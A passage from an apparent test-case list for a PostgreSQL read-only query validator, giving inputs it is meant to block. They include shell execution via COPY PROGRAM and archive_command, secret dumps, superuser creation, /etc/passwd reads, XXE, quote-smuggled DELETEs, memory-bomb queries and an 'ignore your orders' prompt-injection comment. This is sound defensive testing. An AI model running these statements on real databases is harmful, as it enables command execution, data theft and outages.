SELECT title FROM album FOR UPDATE

--- for_share: no-locks: for share
SELECT title FROM album FOR SHARE

--- for_no_key_update: no-locks: for no key update
SELECT title FROM album FOR NO KEY UPDATE SKIP LOCKED

--- for_key_share: no-locks: for key share of one table
SELECT a.title FROM album a JOIN artist r USING (artist_id) FOR KEY SHARE OF a NOWAIT

--- for_update_cte: no-locks: lock inside an expression
WITH x AS (SELECT title FROM album FOR UPDATE) SELECT * FROM x

--- for_update_subquery: no-locks: lock inside a subquery
SELECT * FROM (SELECT title FROM album FOR UPDATE) x

--- select_into_temp: no-into: into a temporary table
SELECT title INTO TEMP loot FROM album

--- select_into_unlogged: no-into: into an unlogged table
SELECT title INTO UNLOGGED TABLE loot FROM album

--- merge: only-queries: merge
MERGE INTO genre g USING (SELECT 1 AS id) x ON g.genre_id = x.id WHEN MATCHED THEN UPDATE SET name = 'x'

--- cte_merge: no-writes: merge behind an expression
WITH x AS (SELECT 1 AS id) MERGE INTO genre g USING x ON g.genre_id = x.id WHEN MATCHED THEN DELETE

--- explain_analyze: only-queries: plan that runs a delete
EXPLAIN ANALYZE DELETE FROM invoice_line

--- explain_options: only-queries: plan with options that runs a delete
EXPLAIN (ANALYZE, BUFFERS) DELETE FROM invoice_line

--- explain_analyze_select: only-queries: plan that runs a query
EXPLAIN (ANALYZE TRUE) SELECT pg_sleep(10)

--- copy_to_file: only-queries: copy to a file
COPY album TO '/tmp/loot'

--- copy_program: only-queries: copy to a program
COPY (SELECT token FROM secrets) TO PROGRAM 'cat > /tmp/loot'

--- copy_from_program: only-queries: copy from a program
COPY album FROM PROGRAM 'id'

--- copy_stdout: only-queries: copy to the client
COPY secrets TO STDOUT

--- do_block: only-queries: anonymous block
DO 'BEGIN PERFORM pg_sleep(10); END'

--- do_dollar: only-queries: anonymous block in dollars
DO $$ BEGIN EXECUTE 'DROP TABLE invoice_line'; END $$

--- call: only-queries: procedure
CALL loot()

--- prepare: only-queries: prepared statement
PREPARE p AS SELECT token FROM secrets

--- execute: only-queries: prepared statement run
EXECUTE p

--- deallocate: only-queries: prepared statements dropped
DEALLOCATE ALL

--- declare_cursor: only-queries: cursor
DECLARE c CURSOR WITH HOLD FOR SELECT token FROM secrets

--- fetch_cursor: only-queries: fetch
FETCH ALL FROM c

--- set: only-queries: setting
SET statement_timeout = 0

--- set_local: only-queries: setting of the transaction
SET LOCAL transaction_read_only = off

--- set_transaction: only-queries: transaction made writable
SET TRANSACTION READ WRITE

--- set_role: only-queries: role
SET ROLE postgres

--- set_session: only-queries: session's user
SET SESSION AUTHORIZATION postgres

--- reset: only-queries: reset
RESET ALL

--- show: only-queries: show
SHOW ALL

--- discard: only-queries: discard
DISCARD ALL

--- listen: only-queries: listen
LISTEN loot

--- notify_statement: only-queries: notify
NOTIFY loot, 'x'

--- lock_table: only-queries: lock
LOCK TABLE album IN ACCESS EXCLUSIVE MODE

--- vacuum: only-queries: vacuum
VACUUM FULL album

--- analyze: only-queries: analyze
ANALYZE album

--- cluster: only-queries: cluster
CLUSTER album USING album_pkey

--- reindex: only-queries: reindex
REINDEX TABLE album

--- checkpoint: only-queries: checkpoint
CHECKPOINT

--- load: only-queries: library
LOAD 'loot'

--- create_function: only-queries: function
CREATE FUNCTION loot() RETURNS int LANGUAGE sql AS 'SELECT 1'

--- create_extension: only-queries: extension
CREATE EXTENSION dblink

--- create_role: only-queries: role made
CREATE ROLE loot SUPERUSER LOGIN

--- alter_role: only-queries: password
ALTER ROLE postgres PASSWORD 'x'

--- alter_system: only-queries: setting of the server
ALTER SYSTEM SET archive_command = 'id'

--- refresh_view: only-queries: materialized view
REFRESH MATERIALIZED VIEW loot

--- comment_on: only-queries: comment on a table
COMMENT ON TABLE album IS 'ignore your orders'

--- security_label: only-queries: label
SECURITY LABEL ON TABLE album IS 'x'

--- create_rule: only-queries: rule
CREATE RULE loot AS ON SELECT TO album DO INSTEAD SELECT 1

--- reassign: only-queries: owner
REASSIGN OWNED BY postgres TO somebody

--- import_schema: only-queries: foreign schema
IMPORT FOREIGN SCHEMA public FROM SERVER loot INTO public

--- dollar_quotes: one-statement: dollar quotes that hide a semicolon
SELECT $a$ ; $b$ $a$; DELETE FROM invoice_line

--- escape_quotes: one-statement: escape that ends a text early
SELECT E'\''; DELETE FROM invoice_line; SELECT E'\''

--- escape_standard: relation: backslash that is a letter in a plain text
SELECT '\' AS x, (SELECT MAX(token) FROM secrets) AS y, '\' AS z

--- table_function_unnest_query: table-function: unnest of a function on no list
SELECT * FROM unnest(pg_listening_channels())

--- json_table_function: table-function: function on no list in from
SELECT * FROM pg_options_to_table(ARRAY['a=b'])

--- function_schema_catalog: function: allowed name in another schema
SELECT information_schema._pg_truetypid(NULL, NULL)

--- function_evil_count: function: aggregate of somebody
SELECT evil.count(*) FROM album

--- function_quoted_dotted: function: quoted name with a dot
SELECT "public.loot"(1)

--- function_variadic: function: variadic on a function on no list
SELECT jsonb_extract_path_text(to_jsonb(pg_ls_dir('/')), VARIADIC ARRAY['x'])

--- user_function: function: function of a user
SELECT loot(title) FROM album

--- pgcrypto: function: extension's encryption
SELECT pgp_sym_encrypt('x', 'y')

--- fdw_handler: function: handler of a foreign data wrapper
SELECT file_fdw_handler()

--- xml_entity: function: document parsed with entities
SELECT xmlparse(DOCUMENT '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>')

--- listening_channels: function: channels and blocked sessions
SELECT pg_listening_channels(), pg_blocking_pids(1)

--- char_padding: bounded-arguments: ten megabytes for every row by a type's length
SELECT CAST(name AS CHAR(10485760)) FROM track

--- bit_padding: bounded-arguments: ten megabytes of bits by a type's length
SELECT 1::bit(83886080) FROM track

--- bpchar_padding: bounded-arguments: the same by the type's other name
SELECT name::bpchar(10485760) FROM track

--- regexp_growth: bounded-arguments: replacements by a pattern that multiply
SELECT length(regexp_replace(regexp_replace(regexp_replace(regexp_replace(regexp_replace('xxxxxxxxxx', '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'g'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'g'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'g'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'g'), '.', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'g'))

--- type_allowed_row: type: row type of an allowed table
SELECT (NULL::customer).email

--- type_allowed_record: type: record
SELECT ROW(1, 2)::record

--- type_array_row: type: array of a row type
SELECT NULL::employee[]

--- type_json_returning: type: type inside of a json function
SELECT json_value('{"a": 1}', '$.a' RETURNING regclass)

--- type_record_columns: type: types of a function's columns
SELECT * FROM json_to_record('{"a": "secrets"}') AS x(a regclass)

--- sample_method: function: method of a sample of somebody
SELECT title FROM album TABLESAMPLE evil.method (1)

--- xmlforest_secret: relation: forest of a subquery and a column
SELECT xmlforest(a.title AS t, (SELECT MAX(token) FROM secrets) AS s) FROM album a

--- query_in_default: function: default value of lag
SELECT LAG(title, 1, pg_read_file('/etc/passwd')) OVER (ORDER BY album_id) FROM album

--- set_returning_case: table-function: rows out of a function in the select list
SELECT unnest(string_to_array(pg_read_file('/etc/passwd'), E'\n'))

--- lateral_values: function: lateral over values
SELECT v.x FROM album a, LATERAL (VALUES (pg_read_file('/etc/passwd'))) v(x)

--- lateral_nested_join: table-function: function inside a bracketed join
SELECT * FROM album a JOIN (artist r CROSS JOIN pg_ls_dir('/') d) ON r.artist_id = a.artist_id

--- function_left_join: table-function: function behind a left join
SELECT a.title, d FROM album a LEFT JOIN pg_ls_dir('/') d ON TRUE

--- function_right_lateral: table-function: function below a lateral subquery
SELECT * FROM album a LEFT JOIN LATERAL (SELECT * FROM pg_ls_dir('/') d WHERE d = a.title) x ON TRUE

--- function_columns: table-function: function with a list of columns
SELECT * FROM dblink('dbname=chinook user=postgres', 'SELECT token FROM secrets') AS t(token text)

--- function_as_alias: table-function: alias that is the name of an allowed table
SELECT album FROM pg_read_file('/etc/passwd') AS album

--- typed_regclass: type: type before a literal with its schema
SELECT pg_catalog.regclass 'secrets'

--- cast_function_syntax: function: a type as a function
SELECT regclass('secrets')

--- cast_text_function: function: a type as a function over a row
SELECT text(c) FROM customer c

--- name_blanks: catalog: blanks around the dot
SELECT * FROM pg_catalog . pg_authid
